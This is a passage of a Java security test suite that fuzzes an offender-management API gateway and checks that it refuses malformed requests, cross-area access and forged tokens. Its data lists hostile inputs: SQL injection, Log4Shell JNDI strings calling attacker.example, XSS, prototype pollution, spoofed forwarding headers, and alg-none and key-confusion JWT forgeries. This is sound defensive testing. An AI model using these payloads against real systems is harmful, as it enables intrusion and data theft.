        int port = SystemStack.get().port("api-gateway");
        String token = world.token(Role.ADMIN);
        List<byte[]> requests = new ArrayList<>();
        for (String line : List.of("GET /api/v1/offenders/%ZZ HTTP/1.1", "GET /api/v1/offenders?q=%ZZ HTTP/1.1", "GET /api/v1/areas/%Z HTTP/1.1")) {
            requests.add((line + "\r\nHost: localhost\r\nAuthorization: " + token + "\r\nConnection: close\r\n\r\n").getBytes(StandardCharsets.UTF_8));
        }
        for (String value : List.of("a\u0000b", "a\u001bb", "a\rb", "a\u007fb")) {
            requests.add(("GET /api/v1/areas HTTP/1.1\r\nHost: localhost\r\nAuthorization: " + token + "\r\nX-Justification: " + value
                    + "\r\nConnection: close\r\n\r\n").getBytes(StandardCharsets.ISO_8859_1));
        }
        for (byte[] request : requests) {
            String head = rawHead(port, request);
            String label = new String(request, StandardCharsets.ISO_8859_1).lines().limit(4).toList().toString();
            assertTrue(head.startsWith("HTTP/1.1 400"), label + " -> " + head);
            String lower = head.toLowerCase(Locale.ROOT);
            for (String header : List.of("content-type: application/problem+json", "x-request-id:", "x-content-type-options: nosniff",
                    "cache-control: no-store")) {
                assertTrue(lower.contains(header), label + " answered without " + header + ": " + head);
            }
        }
    }

    @Test
    void looseValuesAreRefused() throws Exception {
        String offender = world.offender(true);
        Map<String, Object> visit = new LinkedHashMap<>(Map.of("offenderId", offender, "type", "HOME_VISIT", "outcome", "COMPLETED",
                "announced", false));
        for (Map.Entry<String, String> date : Map.of("1900-01-01", "visitDate", "2014-12-31", "visitDate").entrySet()) {
            Map<String, Object> body = new LinkedHashMap<>(visit);
            body.put("visitDate", date.getKey()); // the fixture's offender was registered on 2015-01-01
            assertRefused(SystemStack.integration().body(body).post(SystemStack.api() + "/visits"), 422, date.getValue());
        }
        for (String officer : List.of(java.util.UUID.randomUUID().toString(), world.manager(false))) {
            Map<String, Object> body = new LinkedHashMap<>(visit);
            body.put("visitDate", "2022-01-10");
            body.put("officerId", officer);
            assertRefused(SystemStack.integration().body(body).post(SystemStack.api() + "/visits"), 422, "officerId");
        }
        Response maybe = SystemStack.admin().queryParam("active", "maybe").get(SystemStack.api() + "/staff");
        assertEquals(400, maybe.statusCode(), maybe.asString());
        assertTrue(maybe.asString().contains("'maybe' is not true or false"), maybe.asString());
        for (String name : List.of("Sam\u0007", "\u202eSam", "Sam\u0000")) {
            Map<String, Object> body = new LinkedHashMap<>(world.newOffender(true));
            body.put("firstName", name);
            assertRefused(SystemStack.admin().body(body).post(SystemStack.api() + "/offenders"), 400, "firstName");
        }
        Map<String, Object> twoLines = new LinkedHashMap<>(world.newOffender(true));
        twoLines.put("lastName", "Smith\nJones");
        assertRefused(SystemStack.admin().body(twoLines).post(SystemStack.api() + "/offenders"), 422, "lastName");
        String pnc = world.pnc(true);
        String wrongLetter = pnc.substring(0, pnc.length() - 1) + (pnc.endsWith("A") ? "B" : "A");
        assertRefused(SystemStack.admin().urlEncodingEnabled(false).get(SystemStack.api() + "/offenders/by-pnc/" + wrongLetter.replace("/", "%2F")),
                422, "pncId");
        // The canonical PNC id with its slash encoded, as every generated client sends it.
        SystemStack.admin().urlEncodingEnabled(false).get(SystemStack.api() + "/offenders/by-pnc/" + pnc.replace("/", "%2F"))
                .then().statusCode(200).body("id", org.hamcrest.Matchers.equalTo(offender));
        // RFC 6750 allows more than one space after the scheme; gateway and services read the token alike.
        given().header("Authorization", world.token(Role.ADMIN).replace("Bearer ", "Bearer   "))
                .get(SystemStack.api() + "/offenders/" + offender).then().statusCode(200);
    }

    @Test
    void whatAClientIsToldNamesTheGatewayAndEveryListExports() {
        String code = world.unique("LOC");
        String location = SystemStack.admin().body(Map.of("code", code, "name", "Located")).post(SystemStack.api() + "/areas")
                .then().statusCode(201).extract().header("Location");
        assertEquals(SystemStack.api() + "/areas/" + code, location);
        String csv = SystemStack.as("hostile.ds", List.of("supervisor"), world.area(true)).accept("text/csv")
                .queryParam("areaCode", world.area(true)).queryParam("asOf", "2022-06-30")
                .get(SystemStack.api() + "/overdue-risk-reviews").then().statusCode(200).extract().asString();
        assertTrue(csv.startsWith("offenderId,pncId,displayName,riskLevel,areaCode,managerId,lastRiskAssessmentOn"), csv);
    }

    /** The problem's words with the request's own values and ids taken out: what must be alike in two answers. */
    private static String sameness(Response answer, String... ownValues) {
        String body = answer.asString().replaceAll("\"(requestId|traceId|instance)\"\\s*:\\s*\"[^\"]*\"", "");
        for (String value : ownValues) {
            body = body.replace(value, "…").replace(value.replace("/", "%2F"), "…");
        }
        return answer.statusCode() + " " + body;
    }

    private static void assertRefused(Response answer, int status, String field) {
        assertEquals(status, answer.statusCode(), () -> field + ": " + answer.asString());
        assertTrue(answer.contentType().startsWith("application/problem+json"), answer.contentType());
        List<String> fields = answer.jsonPath().getList("errors.field");
        assertTrue(fields != null && fields.stream().anyMatch(f -> f.equals(field) || f.endsWith("." + field)),
                () -> "the problem names " + field + ": " + answer.asString());
    }

    private static boolean completesExceptionally(java.util.concurrent.CompletableFuture<?> future) {
        try {
            future.get(30, java.util.concurrent.TimeUnit.SECONDS);
            return false;
        } catch (java.util.concurrent.ExecutionException refused) {
            return true;
        } catch (Exception e) {
            throw new IllegalStateException(e);
        }
    }

    /** The head of a raw answer (status line and headers). */
    private static String rawHead(int port, byte[] request) throws IOException {
        try (Socket socket = new Socket("localhost", port)) {
            socket.setSoTimeout(15_000);
            socket.getOutputStream().write(request);
            socket.getOutputStream().flush();
            ByteArrayOutputStream received = new ByteArrayOutputStream();
            byte[] buffer = new byte[8192];
            try {
                for (int n; (n = socket.getInputStream().read(buffer)) > 0; ) {
                    received.write(buffer, 0, n);
                }
            } catch (java.net.SocketException | java.io.InterruptedIOException closedOrSilent) {
                // what arrived counts
            }
            String all = received.toString(StandardCharsets.ISO_8859_1);
            int end = all.indexOf("\r\n\r\n");
            return end < 0 ? all : all.substring(0, end);
        }
    }

    /** Every port of the stack: services, management interfaces, database, broker, mail. */
    private static final class LocalStackPorts {
        List<Integer> all() {
            List<Integer> ports = new ArrayList<>();
            for (String service : SystemStack.get().serviceNames()) {
                ports.add(SystemStack.get().port(service));
                ports.add(SystemStack.get().managementPort(service));
            }
            ports.add(SystemStack.get().amqpPort());
            ports.add(URI.create(SystemStack.get().jdbcUrl("offender").substring("jdbc:".length())).getPort());
            if (SystemStack.get().mailSink() != null) {
                ports.add(SystemStack.get().mailSink().smtpPort());
                ports.add(SystemStack.get().mailSink().webPort());
            }
            return ports;
        }
    }

    // ---- sending and judging -------------------------------------------------------------------------------------

    private Answer send(Probe probe, Operation operation, Role role) throws Exception {
        Answer answer;
        try {
            HttpRequest.Builder request = HttpRequest.newBuilder(URI.create(SystemStack.api() + probe.path()))
                    .timeout(Duration.ofSeconds(60))
                    .method(probe.method(), probe.body() == null ? HttpRequest.BodyPublishers.noBody()
                            : HttpRequest.BodyPublishers.ofByteArray(probe.body()));
            probe.headers().forEach(request::header);
            HttpResponse<byte[]> response = http.send(request.build(), HttpResponse.BodyHandlers.ofByteArray());
            answer = new Answer(response.statusCode(), response.headers().firstValue("Content-Type").orElse(""),
                    new String(response.body(), StandardCharsets.UTF_8));
        } catch (IllegalArgumentException | IOException refusedOrCutOff) {
            // A header value Java's client will not send (non-Latin-1 characters), or an answer it lost because the
            // gateway closed the connection on a body it refused unread (over the size limit): sent as raw bytes.
            answer = raw(SystemStack.get().port("api-gateway"), rawRequest(probe));
        }
        sent++;
        statuses.merge(Integer.toString(answer.status()), 1, Integer::sum);
        judge(probe, operation, role, answer);
        return answer;
    }

    private void judge(Probe probe, Operation operation, Role role, Answer answer) throws SQLException {
        String label = operation.key() + " as " + role + ", " + probe.label();
        if (answer.status() >= 500 || answer.status() < 100) {
            violation(label, "answered " + answer.status() + ": " + clip(answer.body()));
        } else if (answer.status() >= 400 && !isProblem(answer)) {
            violation(label, answer.status() + " is not a problem+json: " + answer.contentType() + " " + clip(answer.body()));
        }
        if ((role == Role.MANAGER || role == Role.SUPERVISOR) && answer.status() < 300) {
            String target = probe.path().contains("?") ? probe.path().substring(0, probe.path().indexOf('?')) : probe.path();
            String sentText = java.net.URLDecoder.decode(probe.path().replace("+", "%2B"), StandardCharsets.UTF_8)
                    + (probe.body() == null ? "" : new String(probe.body(), StandardCharsets.UTF_8));
            for (String other : otherAreaValues()) {
                if (target.contains(java.net.URLEncoder.encode(other, StandardCharsets.UTF_8).replace("+", "%20"))) {
                    violation(label, "answered " + answer.status() + " for the other area's " + other);
                } else if (!sentText.contains(other) && answer.body().contains(other)) {
                    // (A value the request itself carried may come back as an echo; anything else of the other area is a leak.)
                    violation(label, "a manager of " + world.area(true) + " was shown " + other + " of " + world.area(false));
                }
            }
        }
        if (operation.writes()) {
            String now = fingerprint();
            if (answer.status() >= 400 && !now.equals(lastFingerprint)) {
                violation(label, "refused with " + answer.status() + " but the data changed: " + lastFingerprint + " -> " + now);
            }
            lastFingerprint = now;
        }
    }

    private static boolean isProblem(Answer answer) {
        if (!answer.contentType().startsWith("application/problem+json")) {
            return false;
        }
        try {
            JsonNode problem = JSON.readTree(answer.body());
            return problem.path("status").asInt() == answer.status() && problem.hasNonNull("title");
        } catch (IOException e) {
            return false;
        }
    }

    private void violation(String label, String what) {
        if (violations.size() < 200) {
            violations.add(label + ": " + what);
        }
    }

    private void assertNoViolations() {
        List<String> found = List.copyOf(violations);
        violations.clear();
        assertTrue(found.isEmpty(), found.size() + " violations (of " + sent + " requests so far):\n" + String.join("\n", found));
    }

    /** What a refused request must not have touched: each service's own tables, written synchronously by requests. */
    private static final Map<String, List<String>> WATCHED = Map.of(
            "offender", List.of("area", "staff", "offender", "risk_assessment", "status_change", "offender_history"),
            "visits", List.of("visit", "visit_policy"),
            "notifications", List.of("webhook_subscription"),
            "assurance", List.of("compliance_snapshot", "threshold_set", "assurance_sample", "case_finding", "tracked_action",
                    "action_update"));

    /**
     * Row triggers on every watched table log each row inserted, updated or deleted (in the writer's transaction, so
     * a refused request's rolled-back writes leave no row): the fingerprint is then a count, cheap however large the
     * tables are (hashing them whole took longer than the requests once earlier tests had loaded 20,000 offenders).
     * Tables other services' events fill in the background (the projection, the audit store, the outbox, the delivery
     * log) are not watched; webhook subscriptions are, for inserts and deletes only, as failed deliveries update them.
     */
    private static void watch(Connection connection, List<String> tables) throws SQLException {
        try (Statement statement = connection.createStatement()) {
            statement.execute("create table if not exists hostile_watch_log (id bigserial primary key, table_name text not null)");
            statement.execute("create or replace function hostile_watch_log() returns trigger language plpgsql as $$"
                    + " begin insert into hostile_watch_log (table_name) values (tg_table_name); return null; end $$");
            for (String table : tables) {
                statement.execute("drop trigger if exists hostile_watch on " + table);
                statement.execute("create trigger hostile_watch after insert or delete"
                        + (table.equals("webhook_subscription") ? "" : " or update") + " on " + table
                        + " for each row execute function hostile_watch_log()");
            }
        }
    }

    private static void unwatch(Connection connection, List<String> tables) throws SQLException {
        try (Statement statement = connection.createStatement()) {
            for (String table : tables) {
                statement.execute("drop trigger if exists hostile_watch on " + table);
            }
            statement.execute("drop table if exists hostile_watch_log");
            statement.execute("drop function if exists hostile_watch_log()");
        }
    }

    private String fingerprint() throws SQLException {
        return single(offenderDb, "select count(*) from hostile_watch_log") + "/" + single(visitsDb, "select count(*) from hostile_watch_log")
                + "/" + single(notificationsDb, "select count(*) from hostile_watch_log")
                + "/" + single(assuranceDb, "select count(*) from hostile_watch_log");
    }

    private static String single(Connection connection, String sql) throws SQLException {
        try (Statement statement = connection.createStatement(); ResultSet rs = statement.executeQuery(sql)) {
            rs.next();
            return rs.getString(1);
        }
    }

    private static byte[] rawRequest(Probe probe) throws IOException {
        StringBuilder head = new StringBuilder(probe.method()).append(' ').append("/api/v1").append(probe.path()).append(" HTTP/1.1\r\n");
        head.append("Host: localhost\r\nConnection: close\r\n");
        probe.headers().forEach((name, value) -> head.append(name).append(": ").append(value).append("\r\n"));
        byte[] body = probe.body() == null ? new byte[0] : probe.body();
        head.append("Content-Length: ").append(body.length).append("\r\n\r\n");
        ByteArrayOutputStream request = new ByteArrayOutputStream();
        request.write(head.toString().getBytes(StandardCharsets.UTF_8));
        request.write(body);
        return request.toByteArray();
    }

    private static Answer raw(int port, byte[] request) throws IOException {
        try (Socket socket = new Socket("localhost", port)) {
            socket.setSoTimeout(15_000);
            OutputStream out = socket.getOutputStream();
            out.write(request);
            out.flush();
            ByteArrayOutputStream received = new ByteArrayOutputStream();
            InputStream in = socket.getInputStream();
            byte[] buffer = new byte[8192];
            try {
                for (int n; (n = in.read(buffer)) > 0; ) {
                    received.write(buffer, 0, n);
                }
            } catch (java.net.SocketException | java.io.InterruptedIOException closedOrSilent) {
                // A server may close a connection it refuses, or keep it open after answering; what arrived counts.
            }
            return parse(received.toByteArray());
        }
    }

    /** Status, content type and (de-chunked) body of a raw HTTP/1.1 answer. */
    private static Answer parse(byte[] answer) {
        if (answer.length == 0) {
            return new Answer(0, "", "(connection closed without an answer)");
        }
        int split = indexOf(answer, "\r\n\r\n".getBytes(StandardCharsets.US_ASCII), 0);
        String head = new String(answer, 0, split < 0 ? answer.length : split, StandardCharsets.ISO_8859_1);
        Matcher status = Pattern.compile("^HTTP/1\\.[01] (\\d{3})").matcher(head);
        int code = status.find() ? Integer.parseInt(status.group(1)) : -1;
        Matcher type = Pattern.compile("(?im)^content-type:\\s*(.+)$").matcher(head);
        byte[] body = split < 0 ? new byte[0] : java.util.Arrays.copyOfRange(answer, split + 4, answer.length);
        if (head.toLowerCase(Locale.ROOT).contains("transfer-encoding: chunked")) {
            body = unchunk(body);
        }
        return new Answer(code, type.find() ? type.group(1).strip() : "", new String(body, StandardCharsets.UTF_8));
    }

    private static byte[] unchunk(byte[] chunked) {
        ByteArrayOutputStream body = new ByteArrayOutputStream();
        int at = 0;
        while (at < chunked.length) {
            int lineEnd = indexOf(chunked, new byte[] {'\r', '\n'}, at);
            if (lineEnd < 0) {
                break;
            }
            int size = Integer.parseInt(new String(chunked, at, lineEnd - at, StandardCharsets.US_ASCII).split(";")[0].strip(), 16);
            if (size == 0) {
                break;
            }
            body.write(chunked, lineEnd + 2, Math.min(size, chunked.length - lineEnd - 2));
            at = lineEnd + 2 + size + 2;
        }
        return body.toByteArray();
    }

    private static int indexOf(byte[] data, byte[] needle, int from) {
        outer:
        for (int i = from; i <= data.length - needle.length; i++) {
            for (int j = 0; j < needle.length; j++) {
                if (data[i + j] != needle[j]) {
                    continue outer;
                }
            }
            return i;
        }
        return -1;
    }

    // ---- what to send ----------------------------------------------------------------------------------------------

    /** The role that gets furthest into each operation (past authorisation, into validation). */
    private static Role roleFor(Operation operation) {
        return switch (operation.key()) {
            case "GET /offenders/{id}/history", "GET /notifications", "GET /notifications/{id}" -> Role.SUPERVISOR;
            case "POST /offenders/batch", "POST /visits/batch" -> Role.INTEGRATION;
            case "POST /areas", "POST /staff", "PATCH /staff/{id}", "DELETE /offenders/{id}", "POST /offenders/events/replay",
                    "GET /audit-events", "PUT /visit-policy", "POST /compliance-scans", "POST /projection/rebuild", "GET /webhooks",
                    "POST /webhooks", "GET /webhooks/{id}", "DELETE /webhooks/{id}", "POST /digests", "GET /community-offenders",
                    "POST /compliance-snapshots", "PUT /performance-thresholds", "POST /assurance-samples", "GET /assurance-samples",
                    "GET /assurance-samples/{id}", "GET /assurance-samples/{id}/report", "GET /actions", "POST /actions",
                    "GET /actions/{id}", "POST /actions/{id}/updates", "POST /actions/reminders" -> Role.ADMIN;
            case "GET /assurance-samples/{id}/cases/{caseRef}", "PUT /assurance-samples/{id}/cases/{caseRef}/finding" -> Role.PANEL;
            default -> Role.MANAGER;
        };
    }

    private Map<String, String> jsonHeaders(Operation operation, Role role) {
        Map<String, String> headers = new LinkedHashMap<>();
        headers.put("Authorization", world.token(role));
        if (operation.bodyType() != null) {
            headers.put("Content-Type", operation.bodyType());
        }
        return headers;
    }

    /** The operation's path with the in-area fixture's identifiers. */
    private String concrete(Operation operation, boolean in) {
        Matcher parameters = PATH_PARAMETER.matcher(operation.template());
        StringBuilder path = new StringBuilder();
        while (parameters.find()) {
            parameters.appendReplacement(path, Matcher.quoteReplacement(fixtureValue(operation, parameters.group(1), in)));
        }
        parameters.appendTail(path);
        return path.toString();
    }

    private String fixtureValue(Operation operation, String name, boolean in) {
        String template = operation.template();
        return switch (name) {
            case "code" -> world.area(in);
            case "pncId" -> world.pnc(in);
            case "offenderId" -> world.offender(in);
            case "recordId" -> template.contains("risk-assessments") ? world.assessment(in) : world.statusChange(in);
            case "caseRef" -> world.caseRef();
            case "id" -> template.startsWith("/staff") ? world.manager(in)
                    : template.startsWith("/compliance-snapshots") ? world.snapshot()
                    : template.startsWith("/assurance-samples") ? world.sample()
                    : template.startsWith("/actions") ? world.action()
                    : template.startsWith("/visits") ? world.visit(in)
                    : template.startsWith("/notifications") ? world.notification(in)
                    : template.startsWith("/webhooks") ? world.webhook()
                    : world.offender(in);
            default -> throw new IllegalStateException("No fixture value for {" + name + "} in " + template);
        };
    }

    private static List<String> parameterNames(Operation operation, String in) {
        return operation.parameters().stream().filter(p -> in.equals(p.get("in"))).map(p -> (String) p.get("name")).toList();
    }

    /** The other area's identifiers: a manager of the first area must never see, touch or be told of them. */
    private List<String> otherAreaValues() {
        return List.of(world.offender(false), world.pnc(false), world.visit(false), world.assessment(false),
                world.statusChange(false), world.notification(false));
    }

    private static String encodePath(String value) {
        return URLEncoder.encode(value, StandardCharsets.UTF_8).replace("+", "%20");
    }

    private ObjectNode validBody(Operation operation) {
        Object body = validBodies().get(operation.key()).get();
        return JSON.valueToTree(body);
    }

    /** A body each operation accepts, built against the in-area fixture. */
    private Map<String, java.util.function.Supplier<Object>> validBodies() {
        Map<String, java.util.function.Supplier<Object>> bodies = new LinkedHashMap<>();
        bodies.put("POST /areas", () -> Map.of("code", world.unique("HZ"), "name", "Hostile area"));
        bodies.put("POST /staff", world::newStaff);
        bodies.put("PATCH /staff/{id}", () -> Map.of("name", "DC Renamed", "active", true));
        bodies.put("POST /offenders", () -> world.newOffender(true));
        bodies.put("PATCH /offenders/{id}", () -> Map.of("firstName", "Jo", "address", Map.of("line1", "2 Test Street")));
        bodies.put("POST /offenders/batch", () -> Map.of("items", List.of(world.newOffender(true))));
        bodies.put("POST /offenders/{id}/risk-assessments", () -> Map.of("assessedOn", "2022-05-10", "riskLevel", "HIGH",
                "tool", "ARMS", "notes", "Reviewed"));
        bodies.put("POST /offenders/{id}/status-changes", () -> world.statusToggle(true));
        bodies.put("POST /visits", () -> Map.of("offenderId", world.offender(true), "visitDate", "2022-01-10", "type", "HOME_VISIT",
                "outcome", "COMPLETED", "announced", false));
        bodies.put("POST /visits/batch", () -> Map.of("items", List.of(Map.of("offenderId", world.offender(true), "visitDate", "2021-02-03",
                "type", "OTHER_CONTACT", "outcome", "COMPLETED", "announced", false, "externalRef", world.unique("HREF")))));
        bodies.put("PUT /visit-policy", () -> Fixture.NATIONAL_POLICY);
        bodies.put("POST /webhooks", () -> Map.of("url", "https://localhost:9/" + world.unique("hz"), "eventTypes", List.of("OVERDUE"),
                "secret", "a-secret-of-sixteen-or-more"));
        bodies.put("POST /compliance-snapshots", () -> Map.of("asOf", "2022-06-30"));
        bodies.put("PUT /performance-thresholds", () -> Fixture.DEFAULT_THRESHOLDS);
        bodies.put("POST /assurance-samples", () -> world.newSample(true));
        bodies.put("PUT /assurance-samples/{id}/cases/{caseRef}/finding", () -> Map.of("grade", "APPROPRIATE_WITH_OBSERVATIONS",
                "flags", List.of("NO_ACCESS_NOT_FOLLOWED_UP"), "observations", "Hostile input"));
        bodies.put("POST /actions", world::newAction);
        bodies.put("POST /actions/{id}/updates", () -> Map.of("note", "Hostile update", "status", "IN_PROGRESS"));
        return bodies;
    }

    /** A field that names a record or an area (where another area's identifier is the thing to try). */
    private static boolean identifies(String field) {
        String name = field.substring(field.lastIndexOf('.') + 1);
        return name.endsWith("Id") || name.equals("id") || name.equals("areaCode") || name.endsWith("StaffNumber");
    }

    /** Every field of a body, as dotted paths; arrays by their first element ("items.0.pncId"). */
    private static List<String> fieldPaths(JsonNode node, String prefix) {
        List<String> paths = new ArrayList<>();
        if (node instanceof ObjectNode object) {
            for (Iterator<String> names = object.fieldNames(); names.hasNext(); ) {
                String name = names.next();
                String path = prefix.isEmpty() ? name : prefix + "." + name;
                paths.add(path);
                paths.addAll(fieldPaths(object.get(name), path));
            }
        } else if (node instanceof ArrayNode array && !array.isEmpty()) {
            paths.addAll(fieldPaths(array.get(0), prefix + ".0"));
        }
        return paths;
    }

    private static void set(JsonNode root, String path, JsonNode value) {
        String[] parts = path.split("\\.");
        JsonNode parent = navigate(root, parts);
        String last = parts[parts.length - 1];
        if (parent instanceof ObjectNode object) {
            object.set(last, value);
        } else if (parent instanceof ArrayNode array) {
            array.set(Integer.parseInt(last), value);
        }
    }

    private static void remove(JsonNode root, String path) {
        String[] parts = path.split("\\.");
        JsonNode parent = navigate(root, parts);
        String last = parts[parts.length - 1];
        if (parent instanceof ObjectNode object) {
            object.remove(last);
        } else if (parent instanceof ArrayNode array) {
            array.remove(Integer.parseInt(last));
        }
    }

    private static JsonNode navigate(JsonNode root, String[] parts) {
        JsonNode node = root;
        for (int i = 0; i < parts.length - 1; i++) {
            node = node.isArray() ? node.get(Integer.parseInt(parts[i])) : node.get(parts[i]);
        }
        return node;
    }

    private static List<JsonNode> hostileValues() {
        List<JsonNode> values = new ArrayList<>();
        values.add(NODES.nullNode());
        values.add(NODES.booleanNode(true));
        values.add(NODES.numberNode(0));
        values.add(NODES.numberNode(-1));
        values.add(NODES.numberNode(2_147_483_648L));
        values.add(NODES.numberNode(new BigInteger("99999999999999999999999999999999")));
        values.add(NODES.numberNode(new BigDecimal("1e400")));
        values.add(NODES.numberNode(new BigDecimal("-0.5")));
        values.add(NODES.arrayNode());
        values.add(NODES.arrayNode().add("a").add(1));
        values.add(NODES.objectNode());
        values.add(NODES.objectNode().put("$ne", ""));
        for (String text : List.of("", " ", "'; drop table offender; --", "${jndi:ldap://attacker.example/a}", "<script>alert(1)</script>",
                "\u0000", "a\u0000b", "\ud800", "😀🏴‍☠️", "\u202eevil", "Zoë Ñúñez", "e\u0301\u0301\u0301", "2022-02-30", "+999999999-12-31",
                "-0001-01-01", "9999-12-31", "1800-01-01", "not-a-uuid", "00000000-0000-0000-0000-000000000000", "\r\n", "x".repeat(5_000),
                "y".repeat(300_000))) {
            values.add(NODES.textNode(text));
        }
        return List.copyOf(values);
    }

    private static Map<String, byte[]> malformedBodies() {
        Map<String, byte[]> bodies = new LinkedHashMap<>();
        Function<String, byte[]> utf8 = s -> s.getBytes(StandardCharsets.UTF_8);
        bodies.put("empty", new byte[0]);
        bodies.put("whitespace", utf8.apply(" \n\t "));
        bodies.put("truncated", utf8.apply("{\"items\": [{\"pncId\": \"20"));
        bodies.put("unclosed", utf8.apply("{"));
        bodies.put("trailing comma", utf8.apply("{\"a\": 1,}"));
        bodies.put("single quotes", utf8.apply("{'a': 1}"));
        bodies.put("comments", utf8.apply("/* x */ {\"a\": 1}"));
        bodies.put("two documents", utf8.apply("{} {}"));
        bodies.put("null", utf8.apply("null"));
        bodies.put("a number", utf8.apply("42"));
        bodies.put("a string", utf8.apply("\"hello\""));
        bodies.put("an array", utf8.apply("[1, 2, 3]"));
        bodies.put("an array of objects", utf8.apply("[{}]"));
        bodies.put("NaN", utf8.apply("{\"a\": NaN}"));
        bodies.put("huge number", utf8.apply("{\"a\": 1" + "0".repeat(20_000) + "}"));
        bodies.put("long exponent", utf8.apply("{\"a\": 1e99999999999}"));
        bodies.put("deep arrays", utf8.apply("[".repeat(50_000) + "]".repeat(50_000)));
        bodies.put("deep objects", utf8.apply("{\"a\":".repeat(20_000) + "1" + "}".repeat(20_000)));
        bodies.put("duplicate keys", utf8.apply("{\"code\": \"A1\", \"code\": \"A2\", \"name\": \"x\", \"name\": \"y\"}"));
        bodies.put("byte order mark", utf8.apply("\ufeff{}"));
        bodies.put("invalid UTF-8", new byte[] {'{', '"', 'a', '"', ':', '"', (byte) 0xC3, (byte) 0x28, '"', '}'});
        bodies.put("overlong UTF-8", new byte[] {'{', '"', 'a', '"', ':', '"', (byte) 0xC0, (byte) 0xAF, '"', '}'});
        bodies.put("UTF-16", "{\"a\": \"b\"}".getBytes(StandardCharsets.UTF_16));
        bodies.put("escaped NUL and lone surrogate", utf8.apply("{\"code\": \"\\u0000\", \"name\": \"\\ud800\", \"firstName\": \"\\udc00\"}"));
        bodies.put("over the size limit", utf8.apply("{\"a\": \"" + "z".repeat(3 * 1024 * 1024) + "\"}"));
        bodies.put("many keys", utf8.apply("{" + String.join(",", java.util.stream.IntStream.range(0, 50_000)
                .mapToObj(i -> "\"k" + i + "\":" + i).toList()) + "}"));
        bodies.put("prototype pollution", utf8.apply("{\"__proto__\": {\"admin\": true}, \"constructor\": {\"prototype\": {}}}"));
        bodies.put("binary", new byte[] {0, 1, 2, 3, (byte) 0xFF, (byte) 0xFE, 0x7F});
        return bodies;
    }

    private static List<String[]> hostileHeaders() {
        List<String[]> headers = new ArrayList<>();
        for (String accept : List.of("application/xml", "text/csv", "text/html", "image/png", "*/*;q=garbage", "application/json;q=0",
                "application/problem+json", "x/y/z", "")) {
            headers.add(new String[] {"Accept", accept});
        }
        for (String value : List.of("", "*", "\"\"", "W/\"1\"", "\"999999999999999999999\"", "garbage", "\"" + "9".repeat(4_000) + "\"",
                "\"1\", \"2\"")) {
            headers.add(new String[] {"If-Match", value});
            headers.add(new String[] {"If-None-Match", value});
        }
        for (String value : List.of("", "x".repeat(8_000), "Zoë 😀", "'; drop table audit_event; --", "${jndi:ldap://a.example/x}")) {
            headers.add(new String[] {"X-Justification", value});
            headers.add(new String[] {"X-Request-Id", value});
        }
        headers.add(new String[] {"Accept-Language", "xx-" + "y".repeat(500)});
        headers.add(new String[] {"Accept-Encoding", "gzip;q=2, br, zstd, nonsense"});
        headers.add(new String[] {"X-Forwarded-For", "127.0.0.1, ' or 1=1"});
        headers.add(new String[] {"X-Forwarded-Host", "attacker.example"});
        headers.add(new String[] {"Forwarded", "for=\"[::1]\";host=attacker.example;proto=gopher"});
        headers.add(new String[] {"Origin", "https://attacker.example"});
        headers.add(new String[] {"Range", "bytes=0-1,5-9999999999999"});
        headers.add(new String[] {"X-HTTP-Method-Override", "DELETE"});
        return headers;
    }

    /** Tokens that must not get anyone in: broken, forged, expired, meant for another service, or not tokens at all. */
    private Map<String, String> forgedTokens() throws Exception {
        LocalKeys keys = SystemStack.get().keys();
        KeyPairGenerator generator = KeyPairGenerator.getInstance("RSA");
        generator.initialize(2048);
        java.security.PrivateKey stranger = generator.generateKeyPair().getPrivate();
        String valid = keys.token("hostile-admin", List.of("admin"), List.of(), Duration.ofMinutes(30));
        String[] parts = valid.split("\\.");
        Base64.Encoder url = Base64.getUrlEncoder().withoutPadding();
        String payload = new String(Base64.getUrlDecoder().decode(parts[1]), StandardCharsets.UTF_8);
        long now = Instant.now().getEpochSecond();

        Map<String, String> tokens = new LinkedHashMap<>();
        tokens.put("missing", "");
        tokens.put("empty bearer", "Bearer ");
        tokens.put("basic", "Basic " + Base64.getEncoder().encodeToString("admin:admin".getBytes(StandardCharsets.UTF_8)));
        tokens.put("garbage", "Bearer not.a.token");
        tokens.put("two dots only", "Bearer ..");
        tokens.put("not base64", "Bearer ***.***.***");
        tokens.put("huge", "Bearer " + "a".repeat(12_000));
        tokens.put("lower-case scheme and a tab", "bearer\t" + valid.substring(0, 20));
        tokens.put("expired", "Bearer " + Jwt.issuer(LocalKeys.ISSUER).audience(LocalKeys.AUDIENCE).subject("hostile").groups(Set.of("admin"))
                .claim("areas", List.of()).issuedAt(now - 7_200).expiresAt(now - 3_600).jws().keyId("oversight-local").sign(keys.readPrivateKey()));
        tokens.put("not yet valid", "Bearer " + Jwt.issuer(LocalKeys.ISSUER).audience(LocalKeys.AUDIENCE).subject("hostile").groups(Set.of("admin"))
                .claim("areas", List.of()).issuedAt(now + 3_600).claim("nbf", now + 3_600).expiresAt(now + 7_200).jws().keyId("oversight-local")
                .sign(keys.readPrivateKey()));
        tokens.put("wrong key", "Bearer " + Jwt.issuer(LocalKeys.ISSUER).audience(LocalKeys.AUDIENCE).subject("hostile").groups(Set.of("admin"))
                .claim("areas", List.of()).expiresIn(Duration.ofMinutes(30)).jws().keyId("oversight-local").sign(stranger));
        tokens.put("wrong audience", "Bearer " + Jwt.issuer(LocalKeys.ISSUER).audience("some-other-api").subject("hostile").groups(Set.of("admin"))
                .claim("areas", List.of()).expiresIn(Duration.ofMinutes(30)).jws().keyId("oversight-local").sign(keys.readPrivateKey()));
        tokens.put("no audience", "Bearer " + Jwt.issuer(LocalKeys.ISSUER).subject("hostile").groups(Set.of("admin"))
                .claim("areas", List.of()).expiresIn(Duration.ofMinutes(30)).jws().keyId("oversight-local").sign(keys.readPrivateKey()));
        tokens.put("wrong issuer", "Bearer " + Jwt.issuer("https://attacker.example").audience(LocalKeys.AUDIENCE).subject("hostile")
                .groups(Set.of("admin")).claim("areas", List.of()).expiresIn(Duration.ofMinutes(30)).jws().keyId("oversight-local")
                .sign(keys.readPrivateKey()));
        String none = url.encodeToString("{\"alg\":\"none\",\"typ\":\"JWT\"}".getBytes(StandardCharsets.UTF_8));
        tokens.put("alg none", "Bearer " + none + "." + parts[1] + ".");
        tokens.put("alg none, signature kept", "Bearer " + none + "." + parts[1] + "." + parts[2]);
        String hs = url.encodeToString("{\"alg\":\"HS256\",\"typ\":\"JWT\",\"kid\":\"oversight-local\"}".getBytes(StandardCharsets.UTF_8));
        javax.crypto.Mac mac = javax.crypto.Mac.getInstance("HmacSHA256");
        mac.init(new javax.crypto.spec.SecretKeySpec(java.nio.file.Files.readAllBytes(keys.publicKeyFile()), "HmacSHA256"));
